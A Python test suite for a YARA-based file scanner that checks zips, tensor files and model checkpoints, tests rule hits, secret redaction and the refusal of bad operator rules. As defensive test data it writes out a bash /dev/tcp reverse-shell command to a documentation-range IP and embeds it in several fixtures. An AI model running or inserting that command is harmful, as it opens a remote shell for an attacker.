#!/usr/bin/python3
"""Byte rules: each rule of the pack hits what it should and only that, the operator's
rules work or are refused with a reason, nothing is searched twice or not at all."""
import glob, io, json, os, re, struct, subprocess, sys, zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from tap import BUILD, SCAN_FLAGS, TOP, Skip, case, files, findings, fixtures, main, report, scan, scratch, write

PACK = {}  # rule id -> text of the rule
for path in sorted(glob.glob(os.path.join(TOP, "rules", "yara", "*.yar"))):
    for name, body in re.findall(r"^rule (\w+)\n\{\n(.*?)^\}", open(path).read(), re.M | re.S):
        PACK["yara/" + name.replace("_", "-")] = body


def hits(r, prefix=("yara/", "user/")):
    """path -> rules found in it, members included."""
    found = {}
    for f in findings(r):
        if f["rule"].startswith(prefix):
            found.setdefault(f["path"], set()).add(f["rule"])
    return found


def scan_fixtures(*options):
    return hits(report(*options, fixtures("yara")))


@case
def each_rule_hits_what_it_should_and_only_that():
    found = scan_fixtures()
    wrong = []
    for rule in PACK:
        name = rule.split("/")[1]
        here = os.path.join(fixtures("yara"), name)
        if not os.path.exists(here + ".hit") or not os.path.exists(here + ".miss"):
            wrong.append("%s: no fixtures" % rule)
        if rule not in found.get(name + ".hit", ()):
            wrong.append("%s: not found" % rule)
        if found.get(name + ".miss"):
            wrong.append("%s: false alarm %s" % (rule, found[name + ".miss"]))
    assert not wrong, "\n".join(wrong)


@case
def no_fixture_without_a_rule():
    names = {os.path.splitext(n)[0] for n in os.listdir(fixtures("yara")) if n[0] != "."}
    assert names == {rule.split("/")[1] for rule in PACK}
    assert len(PACK) >= 40


@case
def each_rule_has_a_page():
    for rule, body in PACK.items():
        page = open(os.path.join(TOP, "docs", "rules", rule + ".md")).read()
        title = re.search(r'title = "(.*)"', body).group(1)
        assert page.startswith("# %s\n" % rule) and title in page, rule


@case
def a_secret_is_not_shown():
    r = report(fixtures("yara"))
    shown = [f for f in findings(r) if f["rule"].startswith("yara/secret-")]
    assert len(shown) >= 14
    for f in shown:
        assert "not shown)" in f["evidence"] and len(f["evidence"]) < 50, f
    token = b"gh" + b"p_" + b"aB3dE5fG7hJ9"
    assert token not in scan("-o", "json", fixtures("yara")).stdout


@case
def a_finding_says_where_and_what():
    d = scratch()
    write(d + "/a.txt", b"x" * 1000 + b"\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")
    f, = findings(report(d, expect=1))
    assert f["rule"] == "yara/shell-dev-tcp" and f["severity"] == "high"
    assert f["offset"] == 1001 and f["evidence"].startswith("bash -i >& /dev/tcp/198.51"), f
    assert "$redirect" in f["message"], f


SHELL = b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"


def zip_of(path, members, method):
    with zipfile.ZipFile(path, "w", method) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name), data, method)


@case
def a_member_is_searched_once_however_it_is_stored():
    d = scratch()
    for name, method in (("stored", zipfile.ZIP_STORED), ("deflated", zipfile.ZIP_DEFLATED)):
        zip_of(d + "/%s.zip" % name, [("readme", b"words " * 90), ("run.sh", SHELL)], method)
    for f in findings(report(d)):
        if f["rule"].startswith("yara/"):
            assert f["member"] == ["run.sh"] or f["member"] == "run.sh", f
    found = [f for f in findings(report(d)) if f["rule"].startswith("yara/")]
    assert len(found) == 2, found


@case
def what_no_member_covers_is_searched():
    d = scratch()
    zip_of(d + "/a.zip", [("readme", b"words " * 90)], zipfile.ZIP_STORED)
    data = open(d + "/a.zip", "rb").read()
    write(d + "/a.zip", SHELL + b"\n" + data)
    assert hits(report(d))["a.zip"] == {"yara/shell-dev-tcp"}


def safetensors(tensor, metadata=b""):
    header = b'{"__metadata__":{"note":"%s"},"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (
        metadata, len(tensor), len(tensor))
    return struct.pack("<Q", len(header)) + header + tensor


def npy(data):
    header = b"{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % len(data)
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def replaced(path, member, data):
    """A copy of a zip, as bytes, with another content of one member."""
    out = io.BytesIO()
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            new.writestr(zipfile.ZipInfo(info.filename),
                         data if info.filename.endswith(member) else old.read(info))
    return out.getvalue()


@case
def tensor_bulk_is_searched_with_depth_deep_only():
    d = scratch()
    checkpoint = os.path.join(TOP, "fixtures", "real", "state-dict.pt")
    write(d + "/bulk.safetensors", safetensors(SHELL))
    write(d + "/bulk.npy", npy(SHELL))
    write(d + "/bulk.pt", replaced(checkpoint, "/data/0", SHELL))
    assert not hits(report(d)), hits(report(d))
    found = hits(report("--depth", "deep", d))
    assert set(found) == {"bulk.safetensors", "bulk.npy", "bulk.pt"}, found
    write(d + "/bulk.safetensors", safetensors(b"1234", SHELL))
    write(d + "/bulk.npy", npy(b"1234") + SHELL)
    write(d + "/bulk.pt", replaced(checkpoint, "/version", SHELL))
    found = hits(report(d))
    assert set(found) == {"bulk.safetensors", "bulk.npy", "bulk.pt"}, found


@case
def arrays_of_joblib_and_legacy_storages_are_bulk():
    code = """import sys, numpy, joblib, torch
text = sys.argv[2].encode()
joblib.dump({"a": numpy.frombuffer(text * 100, "u1")}, sys.argv[1] + "/bulk.joblib")
torch.save({"w": torch.frombuffer(bytearray(text * 100), dtype=torch.uint8)},
           sys.argv[1] + "/bulk.pth", _use_new_zipfile_serialization=False)
"""
    d = scratch()
    made = subprocess.run(["/usr/bin/python3", "-c", code, d, SHELL.decode()],
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    if made.returncode != 0:
        raise Skip("torch, numpy or joblib is not installed")
    assert not hits(report(d)), hits(report(d))
    assert set(hits(report("--depth", "deep", d))) == {"bulk.joblib", "bulk.pth"}


# ---- the operator's rules

RULE = 'rule found_it { meta: %s strings: $a = "needle" condition: $a }\n'


def with_rules(text, *options, data=b"a needle in it\n", expect=None):
    d = scratch()
    rules = write(d + "/own.yar", text.encode())
    write(d + "/target/a.txt", data)
    return report("--yara", rules, *options, d + "/target", expect=expect)


@case
def the_operators_rules_are_used():
    r = with_rules(RULE % 'severity = "critical" description = "A needle" cwe = 94')
    f, = findings(r)
    assert (f["rule"], f["severity"], f["title"], f["offset"]) == (
        "user/found_it", "critical", "A needle", 2), f
    f, = findings(with_rules(RULE.replace("meta: %s", "")))
    assert (f["rule"], f["severity"], f["title"]) == ("user/found_it", "medium", "found_it"), f


@case
def the_operators_rules_know_names():
    text = 'rule by_name { condition: extension == ".txt" and filename == "a.txt" and filepath endswith "a.txt" and filetype == "" }'
    assert hits(with_rules(text))["a.txt"] == {"user/by_name"}


@case
def a_directory_of_rules_is_read_to_its_end():
    d = scratch()
    write(d + "/rules/one.yar", (RULE % "").replace("meta: ", "").encode())
    write(d + "/rules/deeper/two.YARA", b"rule second { condition: filesize > 3 }")
    write(d + "/rules/notes.txt", b"not a rule")
    write(d + "/target/a.txt", b"a needle\n")
    r = report("--yara", d + "/rules", d + "/target")
    assert hits(r)["a.txt"] == {"user/found_it", "user/second"}


@case
def a_global_rule_of_one_file_does_not_silence_another():
    d = scratch()
    write(d + "/rules/a.yar", b"global rule never { condition: false }")
    write(d + "/rules/b.yar", (RULE % "").replace("meta: ", "").encode())
    write(d + "/target/a.txt", b"a needle\n" + SHELL)
    assert hits(report("--yara", d + "/rules", d + "/target"))["a.txt"] == {
        "user/found_it", "yara/shell-dev-tcp"}


REFUSED = [
    # text, what the message must say
    ("rule a {\n condition:\n  nonsense }", b"own.yar:3: undefined identifier"),
    ("rule a { strings: $a = /(/ condition: $a }", b"own.yar:1: "),
    ('include "other.yar"\n', b"own.yar:1: "),
    ('import "magic"\nrule a { condition: magic.type() contains "x" }', b"own.yar:1: it imports the module magic"),
    ('\n\timport  "time"\nrule a { condition: time.now() > 1 }', b"own.yar:2: it imports the module time"),
    ('import "cuckoo"\nrule a { condition: true }', b"module cuckoo"),
    ('import "console"\nrule a { condition: console.log("x") }', b"module console"),
    ('import "nosuch"\nrule a { condition: true }', b"own.yar:1: "),
    ('rule ab { condition: true }\nrule a { meta: severity = "grave" condition: true }', b"own.yar:2: rule a: meta severity"),
    ('rule a { meta: applies = "everywhere" condition: true }', b"own.yar:1: rule a: meta applies"),
    ("rule a { condition: true } rule a { condition: true }", b"own.yar:1: duplicated identifier"),
    ("rule first { condition: true }\nrule endless { condition: for all i in (1..2000000000) : "
     "( for all j in (1..2000000000) : ( i + j > 0 ) ) }\nrule last { condition: true }",
     b"own.yar:2: rule endless: it does not end"),
    ("\xff\xfe nothing", b"own.yar:1: "),
]


@case
def rules_that_cannot_be_used_are_refused():
    d = scratch()
    write(d + "/target/a.txt", b"a")
    wrong = []
    for text, message in REFUSED:
        rules = write(d + "/own.yar", text.encode("latin-1"))
        p = scan("--yara", rules, d + "/target")
        if p.returncode != 4 or message not in p.stderr or p.stdout:
            wrong.append((text, p.returncode, p.stderr))
    assert not wrong, wrong


@case
def they_are_refused_when_there_is_nothing_to_scan_too():
    d = scratch()
    bad = write(d + "/own.yar", b"rule a {\n condition: nonsense }")
    broken = write(d + "/list.json", b'{\n"schema": 1,, }')
    os.mkdir(d + "/empty")
    os.mkfifo(d + "/fifo")
    write(d + "/skipped/notes.txt", b"nothing that is a model\n")
    for target in (d + "/empty", d + "/skipped"):
        assert scan(target).returncode == 3
        for option, value, message in (
                ("--yara", bad, b"own.yar:2: "), ("--yara", d + "/missing.yar", b"missing.yar: No such file"),
                ("--yara", d + "/empty", b"empty: no *.yar"), ("--yara", "/dev/zero", b"/dev/zero: not a regular file"), ("--yara", d + "/fifo", b"fifo: not a regular file"),
                ("--pickle-rules", broken, b"list.json:2:"), ("--pickle-rules", d + "/missing.json", b"missing.json: No such file"),
                ("--pickle-rules", d + "/empty", b"empty: not a regular file")):
            p = scan(option, value, target)
            assert p.returncode == 4 and message in p.stderr and not p.stdout, (option, value, p)


@case
def a_rule_that_never_ends_makes_its_part_incomplete():
    loop = "for all i in (1..2000000000) : ( for all j in (1..2000000000) : ( i + j > 0 ) )"
    r = with_rules("rule late { condition: filesize > 0 and %s }" % loop, "--max-rule-seconds", "1", data=SHELL, expect=1)
    f = files(r)["a.txt"]
    assert f["status"] == "incomplete" and "within 1 seconds of the processor's time" in f["reason"], f
    assert hits(r)["a.txt"] == {"yara/shell-dev-tcp"}  # what the others found is kept


@case
def the_digest_of_rules_changes_with_every_rule():
    d = scratch()
    os.mkdir(d + "/empty")
    digest = lambda *options: report(*options, d + "/empty", expect=3)["tool"]["rules_digest"]
    plain = digest()
    assert re.fullmatch("[0-9a-f]{64}", plain) and plain == digest("-j", "1")
    own = write(d + "/own.yar", b"rule a { condition: true }")
    names = write(d + "/names.json", b'{"schema": 1, "library": "x", "safe": {"a": ["b"]}}')
    one, two = digest("--yara", own), digest("--pickle-rules", names)
    assert len({plain, one, two, digest("--yara", own, "--pickle-rules", names)}) == 4
    # where it lies is nothing, what it says is all
    os.mkdir(d + "/elsewhere")
    os.rename(own, d + "/elsewhere/own.yar")
    assert digest("--yara", d + "/elsewhere") == one
    write(own, b"rule a { condition: false }")
    assert digest("--yara", own) not in (plain, one)
    write(names, b'{"schema": 1, "library": "x", "safe": {"a": ["c"]}}')
    assert digest("--pickle-rules", names) not in (plain, two)


@case
def one_name_in_two_files_is_refused():
    d = scratch()
    write(d + "/rules/a.yar", b"rule same { condition: true }")
    write(d + "/rules/b.yar", b"rule same { condition: false }")
    p = scan("--yara", d + "/rules", d)
    assert p.returncode == 4 and b"a.yar" in p.stderr and b"b.yar" in p.stderr, p.stderr


@case
def rules_that_are_not_there_are_an_error():
    d = scratch()
    write(d + "/empty/notes.txt", b"no rule")
    for path in (d + "/empty", d + "/missing.yar"):
        p = scan("--yara", path, d)
        assert p.returncode == 4 and os.path.basename(path).encode() in p.stderr, p.stderr


@case
def too_many_matches_are_bounded_and_told():
    r = with_rules('rule many { strings: $a = "a" condition: #a > 5 }',
                   data=b"a" * 1200000)
    assert hits(r)["a.txt"] == {"user/many"}
    status = files(r)["a.txt"]
    assert status["status"] == "incomplete" and "$a in rule many" in status["reason"], status


@case
def safe_modules_work_confined():
    text = """import "hash"
import "math"
import "pe"
import "elf"
rule sums { condition: hash.sha256(0, filesize) != "" and math.entropy(0, filesize) > 1.0 and not pe.is_pe }
rule elves { condition: elf.type == elf.ET_EXEC }
"""
    found = hits(with_rules(text))["a.txt"]
    assert found == {"user/sums"}, found


# ---- the compiled pack

@case
def a_pack_of_another_build_is_refused():
    d = scratch()
    for path in ("bin/assay", "bin/assay-worker"):
        write(d + "/build/" + path, open(os.path.join(BUILD, path), "rb").read())
        os.chmod(d + "/build/" + path, 0o755)
    for name in ("rules", "registries.d"):
        os.symlink(os.path.join(TOP, name), d + "/" + name)
    pack = open(os.path.join(BUILD, "share", "rules", "assay.yarc"), "rb").read()
    line, body = pack.split(b"\n", 1)
    def try_pack(data):
        if data is not None:
            write(d + "/build/share/rules/assay.yarc", data)
        elif os.path.exists(d + "/build/share/rules/assay.yarc"):
            os.unlink(d + "/build/share/rules/assay.yarc")
        return subprocess.run([d + "/build/bin/assay", "scan", *os.environ.get(
            "ASSAY_SCAN_FLAGS", "").split(), d + "/target"], stdout=subprocess.PIPE,
            stderr=subprocess.PIPE)
    os.makedirs(d + "/build/share/rules")
    write(d + "/target/a.txt", b"a")
    assert try_pack(pack).returncode in (0, 1, 3)
    for data, message in ((None, b"No such file"),
                          (b"assay 0.0.0 libyara 4.0.0\n" + body, b"not of assay"),
                          (b"", b"not of assay"),
                          (line + b"\n", b"assay.yarc"),
                          (line + b"\n" + body[:5000], b"assay.yarc"),
                          (line + b"\nYARA" + b"\xff" * 100, b"assay.yarc")):
        p = try_pack(data)
        assert p.returncode == 4 and message in p.stderr, (data and data[:40], p)


@case
def the_digest_of_rules_covers_the_pack():
    yarac = os.path.join(BUILD, "tool", "yarac")
    if not os.path.exists(yarac):
        raise Skip("no yarac")
    d = scratch()
    for path in ("bin/assay", "bin/assay-worker"):
        write(d + "/build/" + path, open(os.path.join(BUILD, path), "rb").read())
        os.chmod(d + "/build/" + path, 0o755)
    for name in ("rules", "registries.d"):
        os.symlink(os.path.join(TOP, name), d + "/" + name)
    os.makedirs(d + "/build/share/rules")
    os.mkdir(d + "/empty")
    seen = []
    for change in (b"", b"// a comment is no rule\n", b"medium"):
        text = open(os.path.join(TOP, "rules", "yara", "shells.yar"), "rb").read()
        if change == b"medium":
            assert b'confidence = "high"' in text
            text = text.replace(b'confidence = "high"', b'confidence = "low"', 1)
        else:
            text = change + text
        write(d + "/shells.yar", text)
        subprocess.run([yarac, d + "/build/share/rules/assay.yarc", "shells.yar"], cwd=d, check=True)
        p = subprocess.run([d + "/build/bin/assay", "scan", *SCAN_FLAGS, "-o", "json", d + "/empty"], stdout=subprocess.PIPE)
        seen.append(json.loads(p.stdout)["tool"]["rules_digest"])
    assert seen[0] == seen[1] != seen[2], seen


if __name__ == "__main__":
    main()
